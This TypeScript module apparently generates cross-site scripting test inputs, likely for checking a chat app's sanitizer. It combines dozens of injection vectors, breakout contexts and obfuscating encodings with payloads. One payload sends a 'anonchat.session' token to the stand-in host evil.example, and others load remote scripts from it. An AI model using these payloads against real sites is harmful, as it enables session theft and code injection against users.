/** What an attacker would like to run or load. */
const PAYLOADS = [
  "alert('pwned')",
  "console.log('pwned')",
  "window.pwned=1",
  "document.title='pwned'",
  "fetch('//evil.example/?'+localStorage['anonchat.session'])",
  "new/**/Image().src='//evil.example/pwned'",
  "import('//evil.example/pwned.js')",
];

/** The ways in; `JS` stands for the payload. */
const VECTORS = [
  "<script>JS</script>",
  "<script src=//evil.example/pwned.js></script>",
  "<img src=x onerror=\"JS\">",
  "<img src=//evil.example/pwned.png>",
  "<svg onload=\"JS\">",
  "<svg><script>JS</script></svg>",
  "<svg><animate onbegin=\"JS\" attributeName=x dur=1s>",
  "<svg><use href=\"data:image/svg+xml,<svg id=x onload=JS>#x\">",
  "<math><mtext><script>JS</script></mtext></math>",
  "<math href=\"javascript:JS\">x</math>",
  "<iframe src=\"javascript:JS\"></iframe>",
  "<iframe srcdoc=\"<script>JS</script>\"></iframe>",
  "<object data=\"javascript:JS\"></object>",
  "<embed src=\"javascript:JS\">",
  "<body onload=\"JS\">",
  "<input autofocus onfocus=\"JS\">",
  "<details open ontoggle=\"JS\">x</details>",
  "<video><source onerror=\"JS\"></video>",
  "<audio src=x onerror=\"JS\"></audio>",
  "<marquee onstart=\"JS\">x</marquee>",
  "<div style=\"animation-name:x\" onanimationstart=\"JS\">x</div>",
  "<div onpointerenter=\"JS\">x</div>",
  "<a href=\"javascript:JS\" autofocus>x</a>",
  "<form action=\"javascript:JS\"><button autofocus>x</button></form>",
  "<button formaction=\"javascript:JS\">x</button>",
  "<link rel=stylesheet href=//evil.example/pwned.css>",
  "<link rel=prefetch href=//evil.example/pwned>",
  "<style>@import '//evil.example/pwned.css';</style>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
  "<base href=//evil.example/>",
  "<template shadowrootmode=open><script>JS</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
  "<select><template><style><img src=x onerror=JS>",
  "javascript:JS",
  "javascript://example.org/%0aJS",
  "data:text/html,<script>JS</script>",
  "vbscript:JS",
  "[x](javascript:JS)",
  "![x](//evil.example/pwned.png)",
  "https://example.org/\"onmouseover=\"JS",
  "https://example.org/'><script>JS</script>",
  "https://javascript:JS@example.org/",
  "{{constructor.constructor('JS')()}}",
  "${JS}",
];

/** What stands around it, to break out of whatever it may be put into. */
const CONTEXTS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}<'`,
  (vector) => `</textarea></title>${vector}`,
  (vector) => `--></style></script>${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => `\`${vector}\``,
  (vector) => `\`\`\`\n${vector}\n\`\`\``,
  (vector) => `see https://example.org/?q=${vector}`,
];

/** Ways to hide it from somebody who looks for it. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#x3c").replaceAll("\"", "&#34;"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("script:", "scr\tipt:").replaceAll("<", "<\n"),
  (text) => text.replaceAll("script", "scr\u200bipt").replaceAll("on", "o\u00adn"),
  (text) => `\u202e${text}`,
  (text) => text.replaceAll(" ", "/"),
];

/** As many samples as there are; every vector, context, encoding and payload is among them many times. */
export const SAMPLES = 1_000;

/** The samples, always the same, each once. The four lists have no common divisor, so they mix. */
export function xssSamples(): string[] {
  const samples = new Set<string>();
  for (let turn = 0; samples.size < SAMPLES; turn += 1) {
    const pick = <Item>(items: readonly Item[], step: number): Item => items[Math.floor(turn / step) % items.length] as Item;
    const vector = pick(VECTORS, 1).replaceAll("JS", pick(PAYLOADS, 1));
    samples.add(pick(ENCODINGS, VECTORS.length)(pick(CONTEXTS, 1)(vector)));
  }
  return [...samples];
}
